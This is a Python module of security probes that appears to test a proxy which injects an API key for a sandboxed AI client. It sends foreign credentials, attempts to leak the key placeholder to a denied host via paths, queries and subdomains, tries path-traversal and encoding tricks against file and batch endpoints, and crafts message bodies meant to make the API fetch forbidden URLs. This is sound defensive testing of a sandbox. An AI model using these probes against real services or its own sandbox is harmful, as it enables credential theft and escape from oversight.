"""Credential probes: other logins, the placeholder elsewhere, the injected key, other endpoints.

The server and the injected key belong to the test. The server is restricted like a host of the
Messages API.
"""

import json
from base64 import b64encode
from collections.abc import Iterator
from typing import Any, Final

from claude_proxy.doctor.attack.probes.outcome import POLICY, Spec, Try, stopped, through
from claude_proxy.doctor.attack.probes.proxy_client import (
    connect,
    context,
    get,
    inside_tunnel,
    tunnel,
)

_MESSAGES: Final = "/v1/messages"
_MODELS: Final = "/v1/models"  # any query is allowed there, so a denial is about the login
_OTHER: Final = "sk-ant-api03-somebody-elses"
_LIMIT: Final = 64 * 1024

type _Fields = tuple[str, ...]


def message(spec: Spec, fields: _Fields, body: str = "", target: str = _MESSAGES) -> bytes:
    """Return a request to the server that has a key."""
    host, port = spec["bound"]
    text = (body or json.dumps(_message_body())).encode()
    head = [
        f"POST {target} HTTP/1.1",
        f"Host: {host}:{port}",
        "Content-Type: application/json",
        f"Content-Length: {len(text)}",
        "Connection: close",
        *fields,
    ]
    return "\r\n".join([*head, "", ""]).encode() + text


def own(spec: Spec) -> str:
    """Return the header field with the placeholder."""
    return f"x-api-key: {spec['placeholder']}"


def _message_body(**more: Any) -> dict[str, Any]:
    return {"model": "m", "max_tokens": 1, "messages": [], **more}


def foreign_keys(spec: Spec) -> Iterator[Try]:
    """Send foreign logins to the host that has one bound to it."""
    basic = b64encode(f"user:{_OTHER}".encode()).decode()
    placeholder = own(spec)
    for what, fields in (
        ("another key", (f"x-api-key: {_OTHER}",)),
        ("another key, with an underscore", (f"X_Api_Key: {_OTHER}",)),
        ("a bearer token", (f"Authorization: Bearer {_OTHER}",)),
        ("a bearer token beside the placeholder", (placeholder, f"Authorization: Bearer {_OTHER}")),
        ("another key beside the placeholder", (placeholder, f"x-api-key: {_OTHER}")),
        ("another key before the placeholder", (f"x-api-key: {_OTHER}", placeholder)),
        ("both in one field", (f"{placeholder}, {_OTHER}",)),
        ("a name and password", (f"Authorization: Basic {basic}",)),
        ("a cookie", (f"Cookie: sessionKey={_OTHER}",)),
        ("a field of another API", (f"api-key: {_OTHER}",)),
    ):
        yield _inside(spec, what, message(spec, fields))
    for name in ("api_key", "access_token", "x-api-key", "token", "%61pi_key"):
        target = f"{_MODELS}?{name}={_OTHER}"
        yield _inside(spec, f"?{name}=", message(spec, (), target=target))


def misplaced_placeholders(spec: Spec) -> Iterator[Try]:
    """Send the placeholder where it must not be replaced by the key."""
    text, (host, port) = spec["placeholder"], spec["allowed"]
    coded = "".join(f"%{byte:02x}" for byte in text.encode())
    basic = b64encode(f"user:{text}".encode()).decode()
    request = f"GET /honest/a{{}} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n"
    for what, target, field in (
        ("x-api-key elsewhere", "", own(spec)),
        ("a bearer token elsewhere", "", f"Authorization: Bearer {text}"),
        ("a password elsewhere", "", f"Authorization: Basic {basic}"),
        ("a cookie elsewhere", "", f"Cookie: a={text}"),
        ("a query elsewhere", f"?a={text}", "X: a"),
        ("a query elsewhere, escaped", f"?a={coded}", "X: a"),
        ("a path elsewhere", f"/{text}", "X: a"),
    ):
        yield inside_tunnel(spec, what, f"{request.format(target)}{field}\r\n\r\n")
    for what, target, field in (
        ("the query of its host", f"{_MODELS}?a={text}", own(spec)),
        ("the query of its host, escaped", f"{_MODELS}?a={coded}", own(spec)),
        ("the path of its host", f"{_MODELS}/{text}", own(spec)),
        ("a field that is not a login", _MESSAGES, f"User-Agent: {text}"),
    ):
        yield _inside(spec, what, message(spec, (field,), target=target))
    bound = "{}:{}".format(*spec["bound"])
    yield get(spec, f"http://{bound}/v1/messages?a={text}")
    yield get(spec, f"http://{spec['denied_host']}/{text}")
    yield connect(spec, f"{text}.{spec['denied_host']}:443")


def other_endpoints(spec: Spec) -> Iterator[Try]:
    """Request what the API stores for its account: files, batches, skills."""
    for target in (
        "/v1/files",
        "/v1/files?beta=true",
        "/v1/messages/batches",
        "/v1/skills",
        "/v1/organizations/me",
        "/v1/messages/../files",
        "/v1/messages/%2e%2e/files",
        "/v1/messages%2fbatches",
        "/v1//files",
        "/V1/FILES",
        "/v1/messages;/../files",
    ):
        yield _inside(spec, f"POST {target}", message(spec, (own(spec),), target=target))


def message_bodies(spec: Spec) -> Iterator[Try]:
    """Make the API itself connect to a host that the sandbox must not reach."""
    url = f"https://{spec['denied_host']}/"
    document = {"type": "document", "source": {"type": "url", "url": url}}
    image = {"type": "image", "source": {"type": "url", "url": url}}
    fetch = {"type": "web_fetch_20250910", "name": "web_fetch"}
    server = {"type": "url", "url": url, "name": "x"}
    said = _message_body(messages=[{"role": "user", "content": [image]}])
    for what, body in (
        ("mcp_servers", json.dumps(_message_body(mcp_servers=[server]))),
        ("web_fetch", json.dumps(_message_body(tools=[fetch]))),
        ("an image by URL", json.dumps(said)),
        (
            "a document by URL",
            json.dumps(_message_body(messages=[{"role": "user", "content": [document]}])),
        ),
        ("an image in a result", json.dumps(_message_body(messages=[_result(image)]))),
        ("a key with an escape", json.dumps(said).replace('"url":', '"\\u0075rl":')),
        ("a key twice", json.dumps(_message_body())[:-1] + f', "messages": [], "m": "{url}"}}'),
        ("two documents", json.dumps(_message_body()) + json.dumps(said)),
        ("UTF-16", json.dumps(said).encode("utf-16-le").decode("latin-1")),
        ("deep nesting", json.dumps(_message_body(system=0)).replace("0", "[" * 5000 + "]" * 5000)),
        ("not JSON", f"url={url}"),
    ):
        yield _inside(spec, what, message(spec, (own(spec),), body))
    coded = "Content-Encoding: gzip"
    yield _inside(spec, "a compressed body", message(spec, (own(spec), coded)))


def _result(image: dict[str, Any]) -> dict[str, Any]:
    block = {"type": "tool_result", "tool_use_id": "t", "content": [image]}
    return {"role": "user", "content": [block]}


def echoed_keys(spec: Spec) -> Iterator[Try]:
    """Make the server return the key that it received."""
    key, (host, port) = spec["key"].encode(), spec["bound"]
    for what, target in (("in the body", _MODELS), ("in a header field", f"{_MODELS}/head")):
        request = f"GET {target} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n"
        got = b""
        with (
            tunnel(spec, spec["bound"]) as plain,
            context(spec).wrap_socket(plain, server_hostname=host) as tls,
        ):
            tls.sendall(f"{request}{own(spec)}\r\n\r\n".encode())
            while len(got) < _LIMIT and (piece := _piece_of(tls)):
                got += piece
        if key in got:
            yield through(what, "the key")
        else:
            yield stopped(what, POLICY, "cut off")


def _piece_of(tls: Any) -> bytes:
    try:
        return bytes(tls.recv(4096))
    except OSError:
        return b""


def _inside(spec: Spec, what: str, request: bytes) -> Try:
    return inside_tunnel(spec, what, request, spec["bound"])
